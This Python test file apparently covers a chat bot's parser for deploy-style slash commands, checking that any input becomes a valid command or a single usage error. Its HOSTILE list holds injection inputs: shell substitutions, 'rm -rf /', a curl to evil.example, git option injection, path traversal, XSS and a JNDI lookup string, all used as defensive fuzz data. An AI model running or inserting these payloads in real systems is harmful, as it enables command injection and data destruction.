"""How the words after a command are read, for every command there is: a command, or one mistake with the usage."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot import messages
from bot.commands import COMMANDS, MOST_COMMANDS, MOST_STRANGE, read_comment
from bot.errors import UserMistake
from bot.grammar import (
    MOST_PAIRS,
    MOST_RAW_CHARACTERS,
    MOST_WORDS,
    REF,
    Command,
    CommandSpec,
    Parameter,
    Takes,
    read_arguments,
)
from bot.shown.help import help_with

SPEC = CommandSpec(
    "ship",
    "write",
    {"en": "Ship it.", "ko": "보냅니다."},
    (
        Parameter("source", "ENV", re.compile(r"\A[a-z]+\Z"), needed=True),
        Parameter("job", "JOB", re.compile(r"\Adep_[0-9]+\Z"), instead=True),
        Parameter("ref", "REF", REF),
        Parameter("who", "@USER…", re.compile(r"\A@\w+\Z"), takes=Takes.WORDS),
        Parameter("environment", "ENV", re.compile(r"\A[a-z]+\Z"), after="to"),
        Parameter("noop", "", after="--noop", takes=Takes.NOTHING),
        Parameter("reason", "TEXT", after="--reason", takes=Takes.TEXT),
        Parameter("pairs", "KEY=VALUE…", after="--", takes=Takes.PAIRS),
    ),
)
HOSTILE = [
    "$(reboot)",
    "`reboot`",
    "; rm -rf /",
    "| sh",
    "&& curl evil.example",
    "--upload-pack=touch /tmp/x",
    "-x",
    "../../etc/passwd",
    "@everyone",
    "@acme/admins",
    "<script>alert(1)</script>",
    "<!-- -->",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "a\u202eb",
    "é" * 300,
    "🚀",
    "\x00",
    "%00",
    "'\"",
    "${jndi:ldap://x}",
    "x" * 5000,
    "/deploy",
]
WORDS = st.one_of(
    st.text(max_size=40),
    st.sampled_from([*HOSTILE, "to", "--", "—", "--reason", "—noop", "--stage", "A=b", 'A="b c', "main", "staging"]),
)


def read(words: str) -> Command:
    return read_arguments(SPEC, words.split(), f"/ship {words}")


def mistake(words: str) -> UserMistake:
    with pytest.raises(UserMistake) as caught:
        read(words)
    assert caught.value.facts["usage"] == SPEC.usage
    return caught.value


def test_the_usage_shows_every_parameter() -> None:
    assert SPEC.usage == "/ship ENV|JOB [REF] [@USER…] [to ENV] [--noop] [--reason TEXT] [-- KEY=VALUE…]"


@pytest.mark.parametrize(
    ("words", "arguments"),
    [
        ("staging", {"source": "staging"}),
        ("dep_12", {"job": "dep_12", "source": None}),
        ("staging main @ann @bo to prod", {"ref": "main", "who": "@ann @bo", "environment": "prod"}),
        ("staging @ann", {"ref": "@ann"}),
        ("staging --noop main", {"noop": "yes", "ref": "main"}),
        ("staging —noop", {"noop": "yes"}),
        ("staging –reason it is late", {"reason": "it is late"}),
        ('staging --reason "it is late" --noop', {"reason": "it is late", "noop": "yes"}),
        ("staging --reason “it is late”", {"reason": "it is late"}),
        ("staging --reason='it is late'", {"reason": "it is late"}),
        ('staging --reason "', {"reason": '"'}),
        ("staging --reason to be or to do", {"reason": "to be or to do"}),
    ],
)
def test_what_fits_is_understood(words: str, arguments: dict[str, str | None]) -> None:
    command = read(words)
    assert {name: command.get(name) for name in arguments} == arguments


@pytest.mark.parametrize("dashes", ["--", "—", "–"])
def test_pairs_go_to_the_end_of_the_line(dashes: str) -> None:
    command = read(f"staging {dashes} A=1 B=\"two words\" C='x y' D= _e=a=b")
    assert command.pairs == {"A": "1", "B": "two words", "C": "x y", "D": "", "_e": "a=b"}


@pytest.mark.parametrize(
    ("words", "code"),
    [
        ("", "missing_argument"),
        ("to prod", "missing_argument"),
        ("staging to", "missing_argument"),
        ("staging to prod to prod", "said_twice"),
        ("staging --reason a --reason b", "said_twice"),
        ("staging --reason", "missing_argument"),
        ("staging --reason=", "missing_argument"),
        ("staging --reason " + "x" * 301, "bad_argument"),
        ("staging --noop=no", "unexpected_word"),
        ("staging --force", "unexpected_word"),
        ("staging main other", "bad_argument"),
        ("staging --", "missing_argument"),
        ("staging -- nonsense", "bad_argument"),
        ("staging -- 1A=b", "bad_argument"),
        ("staging -- " + " ".join(f"K{n}=v" for n in range(MOST_PAIRS + 1)), "bad_argument"),
        ("staging " + "x " * MOST_WORDS, "unexpected_word"),
        ("UPPER", "missing_argument"),
        ("@@", "missing_argument"),
    ],
)
def test_what_does_not_fit_is_one_mistake_with_the_usage(words: str, code: str) -> None:
    assert mistake(words).code == code


# Every command there is


def least(spec: CommandSpec) -> str:
    """A command with what it needs and no more."""
    needed = [parameter for parameter in spec.parameters if parameter.needed]
    return " ".join([f"/{spec.name}", *(f"{one.after or ''} staging".strip() for one in needed)])


@pytest.mark.parametrize("spec", COMMANDS.values(), ids=lambda spec: spec.name)
class TestEveryCommand:
    def test_it_is_understood_with_what_it_needs(self, spec: CommandSpec) -> None:
        (command,) = read_comment(least(spec)).commands
        assert command.name == spec.name

    def test_what_is_missing_is_named(self, spec: CommandSpec) -> None:
        said = read_comment(f"/{spec.name}")
        needed = [parameter.said for parameter in spec.parameters if parameter.needed]
        assert [one.facts["argument"] for one in said.mistakes] == needed[:1]

    def test_an_option_nobody_knows_is_answered_with_the_usage(self, spec: CommandSpec) -> None:
        (wrong,) = read_comment(f"{least(spec)} --no-such-option").mistakes
        assert (wrong.code, wrong.facts["usage"]) == ("unexpected_word", spec.usage)

    def test_more_words_than_it_takes_are_answered_with_the_usage(self, spec: CommandSpec) -> None:
        said = read_comment(f"/{spec.name} {'staging ' * 50}")
        assert (said.commands, [one.facts["usage"] for one in said.mistakes]) == ((), [spec.usage])

    def test_an_option_said_twice_is_answered_with_the_usage(self, spec: CommandSpec) -> None:
        flags = [one.after for one in spec.parameters if one.after and one.takes is Takes.NOTHING]
        for flag in flags:
            (wrong,) = read_comment(f"{least(spec)} {flag} {flag}").mistakes
            assert (wrong.code, wrong.facts["usage"]) == ("said_twice", spec.usage)

    @pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
    def test_hostile_words_give_a_command_that_fits_its_patterns_or_a_mistake(
        self, spec: CommandSpec, hostile: str
    ) -> None:
        said = read_comment(f"/{spec.name} {hostile}")
        assert len(said.commands) + len(said.mistakes) == 1
        for command in said.commands:
            assert fits(spec, command)

    @given(words=st.lists(WORDS, max_size=12))
    def test_any_line_gives_a_command_or_a_mistake_and_nothing_else(self, spec: CommandSpec, words: list[str]) -> None:
        line = f"/{spec.name} " + " ".join(" ".join(words).split())
        said = read_comment(line)
        assert len(said.commands) + len(said.mistakes) == 1
        for wrong in said.mistakes:
            assert (wrong.facts["command"], wrong.facts["usage"]) == (spec.name, spec.usage)
            assert all(messages.failure(locale, wrong.code, wrong.facts) for locale in ("en", "ko"))
        for command in said.commands:
            assert fits(spec, command)
            assert len(command.raw) <= MOST_RAW_CHARACTERS

    @pytest.mark.parametrize("locale", ["en", "ko"])
    def test_its_help_says_what_it_does_and_every_word_it_takes(self, spec: CommandSpec, locale: str) -> None:
        told = help_with(locale, spec)
        assert spec.help[locale] in told
        assert spec.usage in told

    def test_its_examples_are_understood_as_that_command(self, spec: CommandSpec) -> None:
        for example in spec.examples:
            (command,) = read_comment(f"/{example}").commands
            assert command.name == spec.name


def fits(spec: CommandSpec, command: Command) -> bool:
    """Whether each word of it is one its parameter allows."""
    patterns = {parameter.name: parameter for parameter in spec.parameters}
    return all(
        patterns[name].takes in {Takes.NOTHING, Takes.WORDS} or patterns[name].pattern.match(value)
        for name, value in command.arguments.items()
    )


@pytest.mark.parametrize("ref", ["--upload-pack=x", "-x", "—upload-pack=x", "–x", "--", "a..b", "@{-1}", "a b\x7f"])
@pytest.mark.parametrize("name", [spec.name for spec in COMMANDS.values() if spec.parameters[:1]])
def test_no_argument_of_any_command_is_read_as_an_option(name: str, ref: str) -> None:
    said = read_comment(f"/{name} {ref}")
    assert not any(value.startswith("-") for command in said.commands for value in command.arguments.values())


def test_several_mistakes_are_all_kept() -> None:
    said = read_comment("/deplyo\n/status a b\n/deploy main\n/cancel this")
    assert [wrong.code for wrong in said.mistakes] == ["unknown_command", "unexpected_word", "bad_argument"]
    assert [command.name for command in said.commands] == ["deploy"]


def test_the_words_of_many_other_bots_do_not_hide_ours() -> None:
    others = "".join(f"/x{chr(97 + n)}z\n" for n in range(MOST_STRANGE * 2))
    assert [command.name for command in read_comment(f"{others}/deploy").commands] == ["deploy"]


def test_after_many_strange_words_no_more_guesses_are_made() -> None:
    others = "".join(f"/x{chr(97 + n)}z\n" for n in range(MOST_STRANGE))
    assert read_comment(f"{others}/deplyo").mistakes == ()


def test_ten_commands_are_read_and_the_eleventh_is_told() -> None:
    said = read_comment("/status\n" * (MOST_COMMANDS + 1))
    assert (len(said.commands), [wrong.code for wrong in said.mistakes]) == (MOST_COMMANDS, ["too_many_commands"])
